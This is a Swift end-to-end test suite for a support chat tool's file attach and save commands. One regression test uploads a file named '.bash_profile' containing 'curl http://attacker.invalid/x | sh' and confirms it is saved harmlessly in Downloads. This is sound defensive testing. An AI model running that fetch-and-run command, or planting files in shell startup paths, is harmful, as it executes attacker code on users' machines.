import Foundation
import SwitchboardClient
import SwitchboardProtocol
import Testing

/// `/attach` and `/save` in tmux against a real server: a customer sends a receipt, the agent
/// sees it and saves it, the bytes arrive whole.
@Suite(.serialized) struct FileTransferEndToEndTests {
    @Test(.enabled(if: TerminalEndToEndTests.hasTmux, "tmux is installed by .ci/run"))
    func aCustomerSendsAFileAndTheAgentSavesIt() async throws {
        let server = try await ServerUnderTest(agents: [("alex", "Alex Agent")], prefix: "files")
        defer { server.close() }
        let customer = try await Party.register(server: server.url, username: "dana", name: "Dana Doe", directory: server.directory)
        defer { Task { await customer.stop() } }
        let ticket = try await customer.api.openTicket(
            CreateTicketRequest(
                subject: "Refund", description: "Charged twice",
                category: .payment))
        let receipt = server.directory.appendingPathComponent("receipt.txt")
        let text = "Order 4410\nTotal 24,90 (twice)\n"
        try text.write(to: receipt, atomically: true, encoding: .utf8)
        let downloads = server.directory.appendingPathComponent("downloads")

        // The customer's side in the terminal.
        let tmux = try await TmuxSession.chat(server.url, user: "dana", width: 100, height: 30)
        defer { tmux.close() }
        try tmux.literal("/open \(ticket.id)")
        try tmux.keys("Enter")
        try await tmux.waitFor("the chat") { $0.contains("Charged twice") }
        // Tab completes the path from the file system.
        try tmux.literal("/attach \(server.directory.path)/rec")
        try tmux.keys("Tab")
        try await tmux.waitFor("the path completed") { $0.contains("/receipt.txt") }
        try tmux.keys("Enter")
        try await tmux.waitFor("sent, and shown as a file") { $0.contains("📎 1 receipt.txt · \(text.utf8.count) B · text/plain") }

        // The agent's console sees it and saves it into the downloads directory.
        let agent = try await TmuxSession.console(
            server.url, user: "alex", name: "Alex Agent", width: 120, height: 30, environment: ["XDG_DOWNLOAD_DIR": downloads.path])
        defer { agent.close() }
        try agent.literal("/open \(ticket.id)")
        try agent.keys("Enter")
        try await agent.waitFor("the file in the chat") { $0.contains("📎 1 receipt.txt · \(text.utf8.count) B · text/plain") }
        try agent.literal("/save")
        try agent.keys("Enter")
        let saved = downloads.appendingPathComponent("receipt.txt")
        try await agent.waitFor("saved, and said where") { $0.contains("receipt.txt is in \(saved.path)") }
        #expect(try String(contentsOf: saved, encoding: .utf8) == text)
        // Again: a second copy beside it, never over it.
        try agent.literal("/save 1")
        try agent.keys("Enter")
        try await agent.waitFor("a second copy") { $0.contains("receipt (1).txt") }
        #expect(FileManager.default.fileExists(atPath: downloads.appendingPathComponent("receipt (1).txt").path))
    }

    /// Issue 29: a customer sends a text file named `.bash_profile`; the agent, started in their
    /// home directory with no Downloads folder and no XDG_DOWNLOAD_DIR, types plain `/save`. It
    /// once landed as `~/.bash_profile`, to be run by the next login shell. Now it goes to
    /// `~/Downloads` (made for it), without the leading dot, and the screen says the whole path.
    @Test(.enabled(if: TerminalEndToEndTests.hasTmux, "tmux is installed by .ci/run"))
    func aHostileFileNameNeverLandsInTheAgentsHome() async throws {
        let server = try await ServerUnderTest(agents: [("alex", "Alex Agent")], prefix: "hostile")
        defer { server.close() }
        let customer = try await Party.register(server: server.url, username: "mallory", name: "Mallory", directory: server.directory)
        defer { Task { await customer.stop() } }
        let ticket = try await customer.api.openTicket(
            CreateTicketRequest(
                subject: "Please look", description: "See my file",
                category: .technical))
        let payload = server.directory.appendingPathComponent("payload")
        try "curl http://attacker.invalid/x | sh\n".write(to: payload, atomically: true, encoding: .utf8)
        let file = try await customer.api.upload(payload, named: ".bash_profile", to: ticket.id)
        _ = try await customer.api.post(PostMessageRequest(message: "", messageType: .file, attachmentId: file.id), ticket: ticket.id)

        let home = server.directory.appendingPathComponent("agent-home")
        try FileManager.default.createDirectory(at: home, withIntermediateDirectories: true)
        let agent = try TmuxSession()
        defer { agent.close() }
        try agent.start(
            [Command.binary.path, "console", "--server", server.url, "--user", "alex"],
            environment: ["SWITCHBOARD_PASSWORD": "agent-password", "HOME": home.path, "XDG_DOWNLOAD_DIR": ""],
            width: 200, height: 40, directory: home)
        try await agent.waitFor("the console") { $0.contains("Agent console · Alex Agent") && $0.contains("● connected") }
        try agent.literal("/open \(ticket.id)")
        try agent.keys("Enter")
        try await agent.waitFor("the file in the chat") { $0.contains("📎 1 bash_profile") }
        try agent.literal("/save")
        try agent.keys("Enter")
        let saved = home.appendingPathComponent("Downloads/bash_profile")
        try await agent.waitFor("saved, and the whole path said") { $0.contains("bash_profile is in \(saved.path)") }
        #expect(FileManager.default.fileExists(atPath: saved.path))
        let inHome = try FileManager.default.contentsOfDirectory(atPath: home.path).filter { $0 != "Downloads" }
        #expect(inHome.isEmpty, "nothing but Downloads in the home directory: \(inHome)")
    }
}
